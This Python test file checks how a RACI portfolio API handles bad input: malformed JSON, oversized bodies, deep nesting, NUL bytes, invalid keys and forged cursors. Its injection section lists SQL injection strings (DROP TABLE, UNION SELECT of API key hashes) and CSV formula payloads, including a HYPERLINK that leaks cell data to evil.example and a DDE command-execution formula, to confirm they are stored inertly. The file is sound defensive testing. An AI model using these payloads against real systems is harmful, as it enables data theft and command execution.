"""The bad-input catalogue: what the real world sends, and the exact answer for each.

Every refused request is a problem+json with the expected status and a detail a person can
act on, and leaves the data exactly as it was. Hostile text that is valid (SQL, formulas) is
stored and returned verbatim in JSON, and neutralised with a leading `'` in every CSV.
"""

import base64
import csv
import io
import json
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient

from app.core.config import Settings
from app.core.pagination import fingerprint
from app.db.engine import Database
from app.main import create_app
from tests.conftest import ADMIN_SECRET
from tests.problems import assert_problem, error_locs

JSON = {"Content-Type": "application/json"}
SMALL_LIMIT = 4096

ROLE = {"code": "CFO", "name": "Chief Financial Officer"}
INITIATIVE = {
    "key": "support-chatbot",
    "name": "Customer support chatbot",
    "status": "active",
    "sponsor": "CMO",
    "components": [{"key": "nlu", "name": "NLU engine", "raci": {"CIO": "AR", "CMO": "C"}}],
}


@pytest.fixture
def seeded(client: TestClient) -> TestClient:
    """A write client over one initiative with one component."""
    assert client.put("/initiatives/support-chatbot", json=INITIATIVE).status_code == 201
    return client


def snapshot(client: TestClient) -> Any:
    """Everything a client can see of the portfolio, to prove that nothing changed."""
    export = client.get("/export")
    roles = client.get("/roles", params={"limit": 500})
    audit = client.get("/audit", params={"limit": 500})
    assert export.status_code == roles.status_code == audit.status_code == 200
    return export.json(), roles.json(), [e["id"] for e in audit.json()["items"]]


@pytest.fixture
def unchanged(seeded: TestClient) -> Iterator[TestClient]:
    """The seeded client; the test fails if the portfolio changed by its end."""
    before = snapshot(seeded)
    yield seeded
    assert snapshot(seeded) == before


# -- bodies that are not (acceptable) JSON ----------------------------------------------------


def test_malformed_json_is_400(unchanged: TestClient) -> None:
    response = unchanged.post("/roles", content=b'{"code": "CFO", "name": ', headers=JSON)
    body = assert_problem(response, 400, detail_contains="not valid JSON")
    assert body["type"] == "urn:raci:problem:malformed-json"


@pytest.mark.parametrize(
    ("content_type", "shown"),
    [
        ("text/plain", "text/plain"),
        ("application/x-www-form-urlencoded", "application/x-www-form-urlencoded"),
        ("application/xml", "application/xml"),
        ("multipart/form-data; boundary=x", "multipart/form-data"),
    ],
)
def test_wrong_content_type_is_415(unchanged: TestClient, content_type: str, shown: str) -> None:
    response = unchanged.post(
        "/roles", content=b'{"code": "CFO", "name": "x"}', headers={"Content-Type": content_type}
    )
    body = assert_problem(response, 415, detail_contains="application/json")
    assert shown in body["detail"]
    assert body["type"] == "urn:raci:problem:unsupported-media-type"


def test_wrong_content_type_on_put_and_patch_is_415(unchanged: TestClient) -> None:
    for method in ("PUT", "PATCH"):
        response = unchanged.request(
            method,
            "/initiatives/support-chatbot",
            content=b"name=Renamed",
            headers={"Content-Type": "text/plain"},
        )
        assert_problem(response, 415, detail_contains="application/json")


@pytest.fixture
def small_limit(database_url: str, database: Database, seeded: TestClient) -> TestClient:
    """A write client of an app whose body limit is 4 KiB, over the seeded portfolio."""
    settings = Settings(
        database_url=database_url,
        bootstrap_admin_key=ADMIN_SECRET,  # type: ignore[arg-type]
        max_body_bytes=SMALL_LIMIT,
    )
    return TestClient(
        create_app(settings, database),
        base_url="http://testserver/api/v1",
        headers={"Authorization": f"Bearer {ADMIN_SECRET}"},
    )


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/roles"),
        ("PUT", "/initiatives/support-chatbot"),
        ("PATCH", "/initiatives/support-chatbot"),
        ("POST", "/imports"),
    ],
)
def test_a_body_over_the_limit_is_413(
    small_limit: TestClient, seeded: TestClient, method: str, path: str
) -> None:
    before = snapshot(seeded)
    content = b'{"name": "' + b"x" * SMALL_LIMIT + b'"}'
    response = small_limit.request(method, path, content=content, headers=JSON)
    body = assert_problem(response, 413, detail_contains=f"limit of {SMALL_LIMIT} bytes")
    assert body["type"] == "urn:raci:problem:payload-too-large"
    assert snapshot(seeded) == before


def test_a_streamed_body_over_the_limit_is_413(small_limit: TestClient, seeded: TestClient) -> None:
    before = snapshot(seeded)
    chunks = iter([b'{"roles": [', *([b'{"code": "CFO", "name": "x"},'] * 200), b"{}]}"])
    response = small_limit.post("/imports", content=chunks, headers=JSON)
    assert_problem(response, 413, detail_contains=f"limit of {SMALL_LIMIT} bytes")
    assert snapshot(seeded) == before


def _nested(depth: int) -> bytes:
    return b'{"code": "CFO", "name": "x", "description": ' + b"[" * depth + b"]" * depth + b"}"


def test_moderately_nested_json_is_read_and_refused_as_a_value(unchanged: TestClient) -> None:
    response = unchanged.post("/roles", content=_nested(100), headers=JSON)
    assert_problem(response, 422, detail_contains="description")


@pytest.mark.parametrize("depth", [10_000, 100_000])
def test_deeply_nested_json_is_a_clean_400(unchanged: TestClient, depth: int) -> None:
    response = unchanged.post("/roles", content=_nested(depth), headers=JSON)
    body = assert_problem(response, 400, detail_contains="too deeply")
    assert body["type"] == "urn:raci:problem:malformed-json"


def test_deeply_nested_import_is_a_clean_400(unchanged: TestClient) -> None:
    content = b'{"initiatives": ' + b"[" * 50_000 + b"]" * 50_000 + b"}"
    response = unchanged.post("/imports", content=content, headers=JSON)
    assert_problem(response, 400, detail_contains="too deeply")


def test_invalid_utf8_is_400(unchanged: TestClient) -> None:
    response = unchanged.post(
        "/roles", content=b'{"code": "CFO", "name": "Caf\xe9 \xff"}', headers=JSON
    )
    body = assert_problem(response, 400, detail_contains="not valid UTF-8")
    assert "0xe9" in body["detail"]
    assert body["type"] == "urn:raci:problem:malformed-json"


def test_a_lone_surrogate_escape_is_refused(unchanged: TestClient) -> None:
    # Valid JSON, but no UTF-8 text can hold it; it must not reach the database.
    response = unchanged.post(
        "/roles", content=b'{"code": "CFO", "name": "bad \\ud800 half"}', headers=JSON
    )
    assert response.status_code in (400, 422), response.text
    assert_problem(response, response.status_code)


# -- values -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "body", "field", "limit"),
    [
        ("/roles", {"code": "CFO", "name": "x" * 201}, "name", 200),
        (
            "/roles",
            {"code": "CFO", "name": "x", "description": "x" * 10_001},
            "description",
            10_000,
        ),
        (
            "/capabilities",
            {"key": "crm", "name": "CRM", "rationale": "r" * 10_001},
            "rationale",
            10_000,
        ),
        ("/initiatives", {"key": "x", "name": "X", "tags": ["t" * 65]}, "tags[0]", 64),
        ("/initiatives", {"key": "x", "name": "X", "external_ref": "r" * 201}, "external_ref", 200),
    ],
)
def test_very_long_strings_are_422_naming_the_field(
    unchanged: TestClient, path: str, body: dict[str, Any], field: str, limit: int
) -> None:
    response = unchanged.post(path, json=body)
    problem = assert_problem(response, 422, detail_contains=f"at most {limit} characters")
    assert problem["detail"].startswith(f"{field}:")
    assert [e["path"] for e in problem["errors"]] == [field]


def test_too_many_items_in_a_list_is_422(unchanged: TestClient) -> None:
    response = unchanged.post(
        "/initiatives", json={"key": "x", "name": "X", "tags": [f"t{i}" for i in range(51)]}
    )
    assert_problem(response, 422, detail_contains="tags")


@pytest.mark.parametrize(
    ("path", "body", "field"),
    [
        ("/roles", {"code": "CFO", "name": "Chief\u0000Financial"}, "name"),
        ("/roles", {"code": "CFO", "name": "x", "description": "a\u0000b"}, "description"),
        ("/initiatives", {"key": "x", "name": "X", "tags": ["a\u0000b"]}, "tags"),
    ],
)
def test_nul_bytes_in_text_are_422(
    unchanged: TestClient, path: str, body: dict[str, Any], field: str
) -> None:
    problem = assert_problem(unchanged.post(path, json=body), 422, detail_contains="control")
    assert problem["errors"][0]["loc"][1] == field


@pytest.mark.parametrize(
    ("path", "body", "field"),
    [
        ("/roles", {"code": "CF\u0000O", "name": "x"}, "code"),
        ("/capabilities", {"key": "crm\u0000", "name": "CRM"}, "key"),
        ("/initiatives", {"key": "\u0000", "name": "X"}, "key"),
    ],
)
def test_nul_bytes_in_a_key_are_422(
    unchanged: TestClient, path: str, body: dict[str, Any], field: str
) -> None:
    response = unchanged.post(path, json=body)
    assert_problem(response, 422, detail_contains="pattern")
    assert error_locs(response) == [["body", field]]


def test_a_nul_byte_in_a_path_key_is_422(unchanged: TestClient) -> None:
    response = unchanged.get("/initiatives/support%00chatbot")
    assert_problem(response, 422, detail_contains="pattern")
    assert error_locs(response) == [["path", "key"]]


@pytest.mark.parametrize(
    ("path", "body", "field"),
    [
        ("/roles", {"code": "C", "name": "x"}, "code"),
        ("/roles", {"code": "1CFO", "name": "x"}, "code"),
        ("/roles", {"code": "CFO-X", "name": "x"}, "code"),
        ("/roles", {"code": "C" * 17, "name": "x"}, "code"),
        ("/roles", {"code": "\u0131\u0131", "name": "x"}, "code"),  # upper() would make "II"
        ("/capabilities", {"key": "CRM", "name": "x"}, "key"),
        ("/capabilities", {"key": "-crm", "name": "x"}, "key"),
        ("/capabilities", {"key": "crm platform", "name": "x"}, "key"),
        ("/capabilities", {"key": "../etc/passwd", "name": "x"}, "key"),
        ("/capabilities", {"key": "k" * 65, "name": "x"}, "key"),
        ("/initiatives", {"key": "caf\u00e9", "name": "x"}, "key"),
        ("/initiatives", {"key": "", "name": "x"}, "key"),
    ],
)
def test_keys_that_break_the_pattern_in_a_body_are_422(
    unchanged: TestClient, path: str, body: dict[str, Any], field: str
) -> None:
    response = unchanged.post(path, json=body)
    assert_problem(response, 422, detail_contains=field)
    assert error_locs(response) == [["body", field]]


@pytest.mark.parametrize(
    ("path", "param"),
    [
        ("/capabilities/CRM", "key"),
        ("/capabilities/crm%20platform", "key"),
        ("/initiatives/-x", "key"),
        ("/initiatives/support-chatbot/components/NLU", "component_key"),
        ("/initiatives/support-chatbot/components/nlu/raci/C", "role_code"),
        ("/initiatives/support-chatbot/components/nlu/raci/c-io", "role_code"),
        ("/roles/1CFO", "code"),
        ("/kpis/" + "k" * 65, "key"),
    ],
)
def test_keys_that_break_the_pattern_in_a_path_are_422(
    unchanged: TestClient, path: str, param: str
) -> None:
    for method in ("GET", "PUT", "DELETE"):
        response = unchanged.request(method, path, json={"name": "x", "raci": "A"})
        assert_problem(response, 422, detail_contains=param)
        assert ["path", param] in error_locs(response)


def test_dates_must_be_written_as_dates(unchanged: TestClient) -> None:
    for value in (0, "0", "2026-1-5", "15/01/2026", True):
        response = unchanged.post(
            "/initiatives", json={"key": "x", "name": "X", "start_date": value}
        )
        assert_problem(response, 422, detail_contains="start_date")
    for value in ("0", "2026", "1700000000"):
        response = unchanged.get("/reports/findings", params={"as_of": value})
        assert_problem(response, 422, detail_contains="as_of")


# -- paging and query parameters --------------------------------------------------------------


@pytest.mark.parametrize(
    ("limit", "says"),
    [
        ("-1", "greater than or equal to 1"),
        ("0", "greater than or equal to 1"),
        ("501", "less than or equal to 500"),
        ("99999999999999999999999999999", "less than or equal to 500"),
        ("1e3", "valid integer"),
        ("ten", "valid integer"),
        ("", "valid integer"),
    ],
)
@pytest.mark.parametrize("path", ["/roles", "/initiatives", "/kpis", "/audit"])
def test_a_bad_limit_is_422(seeded: TestClient, path: str, limit: str, says: str) -> None:
    response = seeded.get(path, params={"limit": limit})
    problem = assert_problem(response, 422, detail_contains=says)
    assert error_locs(response) == [["query", "limit"]]
    assert problem["detail"].startswith("query.limit:")


def _two_pages(client: TestClient) -> str:
    for key in ("a-one", "b-two", "c-three"):
        body = {"key": key, "name": key, "status": "active"}
        assert client.post("/initiatives", json=body).status_code == 201
    page = client.get("/initiatives", params={"limit": 2, "status": "active"}).json()
    assert page["next_cursor"]
    cursor: str = page["next_cursor"]
    return cursor


@pytest.mark.parametrize(
    "cursor",
    [
        "forged",
        "eyJhZnRlciI6ICJ6In0",  # base64 of {"after": "z"}: no filters fingerprint
        "eyJhZnRlciI6MSwiZiI6MX0",  # {"after":1,"f":1}: wrong types
        "!!!!",
        "x" * 512,
    ],
)
def test_a_forged_cursor_is_422(seeded: TestClient, cursor: str) -> None:
    _two_pages(seeded)
    response = seeded.get("/initiatives", params={"cursor": cursor, "status": "active"})
    assert_problem(response, 422, detail_contains="not a cursor this service issued")
    assert error_locs(response) == [["query", "cursor"]]


def test_a_hand_made_cursor_with_a_nul_byte_is_422(seeded: TestClient) -> None:
    # Well formed and bound to the right (no) filters, but no key holds a NUL: PostgreSQL
    # could not even compare it.
    raw = json.dumps({"after": "a\u0000b", "f": fingerprint({})}, separators=(",", ":"))
    cursor = base64.urlsafe_b64encode(raw.encode()).decode().rstrip("=")
    for path in ("/roles", "/initiatives", "/capabilities", "/kpis"):
        response = seeded.get(path, params={"cursor": cursor})
        assert_problem(response, 422, detail_contains="not a cursor this service issued")


def test_nul_bytes_in_filters_are_422(unchanged: TestClient) -> None:
    for path, name in [
        ("/initiatives", "q"),
        ("/initiatives", "tag"),
        ("/audit", "resource_key"),
        ("/audit", "resource_key_prefix"),
    ]:
        response = unchanged.get(path, params={name: "a\u0000b"})
        assert_problem(response, 422, detail_contains="control characters")
        assert error_locs(response)[0][:2] == ["query", name]
    # An actor is an API key's name: anything else, a NUL included, does not match its pattern.
    response = unchanged.get("/audit", params={"actor": "a\u0000b"})
    assert_problem(response, 422, detail_contains="pattern")
    assert error_locs(response)[0][:2] == ["query", "actor"]


def test_a_cursor_too_long_is_422(seeded: TestClient) -> None:
    response = seeded.get("/initiatives", params={"cursor": "x" * 513})
    assert_problem(response, 422, detail_contains="cursor")


def test_a_cursor_from_another_filter_is_422(seeded: TestClient) -> None:
    cursor = _two_pages(seeded)
    for params in (
        {"cursor": cursor},
        {"cursor": cursor, "status": "planned"},
        {"cursor": cursor, "status": ["active", "planned"]},
    ):
        response = seeded.get("/initiatives", params=params)
        assert_problem(response, 422, detail_contains="other filters")
    following = seeded.get("/initiatives", params={"cursor": cursor, "status": "active"})
    assert [i["key"] for i in following.json()["items"]] == ["c-three", "support-chatbot"]


def test_a_cursor_from_another_list_is_422(seeded: TestClient) -> None:
    roles = seeded.get("/roles", params={"limit": 1}).json()
    response = seeded.get("/initiatives", params={"cursor": roles["next_cursor"], "limit": 1})
    # The roles cursor was made for no filters, like this request; it continues after "CDO",
    # which sorts before every initiative key: harmless, but not a 500.
    assert response.status_code in (200, 422)


@pytest.mark.parametrize(
    ("path", "params", "name"),
    [
        ("/roles", {"limt": "5"}, "limt"),
        ("/initiatives", {"sponsr": "CMO"}, "sponsr"),
        ("/initiatives", {"status": "active", "order_by": "name"}, "order_by"),
        ("/reports/findings", {"rules": "UNOWNED_COMPONENT"}, "rules"),
        ("/initiatives/support-chatbot", {"expand": "components", "fields": "name"}, "fields"),
        ("/kpis", {"as_of": "2026-01-01", "asof": "2026-01-01"}, "asof"),
    ],
)
def test_unknown_query_parameters_are_422(
    unchanged: TestClient, path: str, params: dict[str, str], name: str
) -> None:
    response = unchanged.get(path, params=params)
    problem = assert_problem(response, 422, detail_contains=repr(name))
    assert {"loc": ["query", name], "msg": "is not a parameter of this endpoint"} in [
        {"loc": e["loc"], "msg": e["msg"]} for e in problem["errors"]
    ]


def test_an_unknown_query_parameter_on_a_write_is_422_and_writes_nothing(
    unchanged: TestClient,
) -> None:
    response = unchanged.post("/roles", params={"dry_run": "true"}, json=ROLE)
    assert_problem(response, 422, detail_contains="dry_run")


# -- injection ----------------------------------------------------------------------------------

SQL_INJECTIONS = [
    "Robert'); DROP TABLE role;--",
    "' OR '1'='1",
    '" OR ""="',
    "1; DELETE FROM initiative WHERE 1=1",
    "x' UNION SELECT secret_hash FROM api_key --",
    "%' AND 1=1 --",
    "\\'; --",
]


@pytest.mark.parametrize("text", SQL_INJECTIONS)
def test_sql_injection_in_names_is_stored_verbatim(seeded: TestClient, text: str) -> None:
    before_roles = seeded.get("/roles").json()["items"]
    role = seeded.post("/roles", json={"code": "CFO", "name": text, "description": text})
    assert role.status_code == 201, role.text
    assert role.json()["name"] == text
    assert seeded.get("/roles/CFO").json()["description"] == text
    initiative = {"key": "inj", "name": text, "goals": text, "tags": [text[:64]]}
    assert seeded.post("/initiatives", json=initiative).status_code == 201
    got = seeded.get("/initiatives/inj").json()
    assert (got["name"], got["goals"], got["tags"]) == (text, text, [text[:64]])
    # No effect: everything else is still there, as it was.
    after_roles = seeded.get("/roles").json()["items"]
    assert [r for r in after_roles if r["code"] != "CFO"] == before_roles
    assert [r["code"] for r in after_roles] == ["CDO", "CEO", "CFO", "CIO", "CMO"]
    assert seeded.get("/initiatives/support-chatbot").status_code == 200


@pytest.mark.parametrize("text", SQL_INJECTIONS)
def test_sql_injection_in_filters_matches_nothing_and_changes_nothing(
    unchanged: TestClient, text: str
) -> None:
    response = unchanged.get("/initiatives", params={"q": text})
    assert response.status_code == 200, response.text
    assert response.json() == {"items": [], "next_cursor": None}
    response = unchanged.get("/initiatives", params={"tag": text[:64]})
    assert response.status_code == 200 and response.json()["items"] == []
    response = unchanged.get("/audit", params={"resource_key": text[:64]})
    assert response.status_code in (200, 422), response.text
    assert_problem(unchanged.get("/initiatives", params={"sponsor": text}), 422)
    assert_problem(unchanged.get("/reports/findings", params={"initiative": text}), 422)


@pytest.mark.parametrize(("wildcard", "name"), [("%", "100% digital"), ("_", "snake_case")])
def test_like_wildcards_in_a_search_are_literal(
    seeded: TestClient, wildcard: str, name: str
) -> None:
    assert seeded.post("/initiatives", json={"key": "wild", "name": name}).status_code == 201
    found = seeded.get("/initiatives", params={"q": wildcard}).json()["items"]
    assert [i["key"] for i in found] == ["wild"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+2",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rCarriage",
    "=cmd|' /C calc'!A0",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _csv(client: TestClient, path: str, **params: Any) -> list[list[str]]:
    response = client.get(path, params={**params, "format": "csv"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.text, newline="")))


def _assert_neutralised(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"{cell!r} would run as a formula"


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_injection_is_verbatim_in_json_and_neutralised_in_every_csv(
    seeded: TestClient, text: str
) -> None:
    # Names that a spreadsheet would run, in every place a CSV shows user text. Names are
    # stripped of surrounding whitespace (a tab or CR in front is dropped); free text is not.
    name = text.strip()
    capability = {"name": text, "agreed_owner": "CDO", "rationale": text}
    assert seeded.put("/capabilities/crm", json=capability).status_code == 201
    document = {
        **INITIATIVE,
        "name": text,
        "goals": text,
        "components": [
            {"key": "nlu", "name": text, "capability": "crm", "raci": {"CIO": "AR", "CMO": "A"}},
            {"key": "feed", "name": text, "description": text, "raci": {"CDO": "C"}},
        ],
    }
    assert seeded.put("/initiatives/support-chatbot", json=document).status_code == 200
    other = {"key": "other", "name": text, "components": [document["components"][0]]}
    assert seeded.put("/initiatives/other", json=other).status_code == 201

    # JSON: verbatim.
    stored = seeded.get("/capabilities/crm").json()
    assert (stored["name"], stored["rationale"]) == (name, text)
    expanded = seeded.get("/initiatives/support-chatbot", params={"expand": "components"}).json()
    assert (expanded["name"], expanded["goals"]) == (name, text)
    assert [c["name"] for c in expanded["components"]] == [name, name]
    assert expanded["components"][0]["description"] == text
    matrix = seeded.get("/initiatives/support-chatbot/raci").json()
    assert [row["name"] for row in matrix["rows"]] == [name, name]
    findings = seeded.get("/reports/findings").json()["findings"]
    assert any(name in f["message"] for f in findings)

    # CSV: every cell that starts like a formula is prefixed with '.
    matrix_rows = _csv(seeded, "/initiatives/support-chatbot/raci")
    column = matrix_rows[0].index("name")
    shown = "'" + name if name.startswith(FORMULA_STARTS) else name
    assert [row[column] for row in matrix_rows[1:]] == [shown, shown]
    for path in ("/reports/findings", "/reports/gaps", "/reports/overlaps", "/reports/roles"):
        rows = _csv(seeded, path)
        assert len(rows) > 1, path
        _assert_neutralised(rows)
    audit = _csv(seeded, "/audit", limit=500)
    as_json = json.dumps(name)[1:-1]  # before and after are JSON in the audit CSV
    assert any(as_json in cell for row in audit for cell in row)
    _assert_neutralised(audit)
    _assert_neutralised(matrix_rows)


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_injection_in_a_role_name_is_verbatim(seeded: TestClient, text: str) -> None:
    role = {"code": "CFO", "name": text, "description": text}
    assert seeded.post("/roles", json=role).status_code == 201
    stored = seeded.get("/roles/CFO").json()
    assert (stored["name"], stored["description"]) == (text.strip(), text)
    _assert_neutralised(_csv(seeded, "/reports/roles"))
    _assert_neutralised(_csv(seeded, "/audit", limit=500))
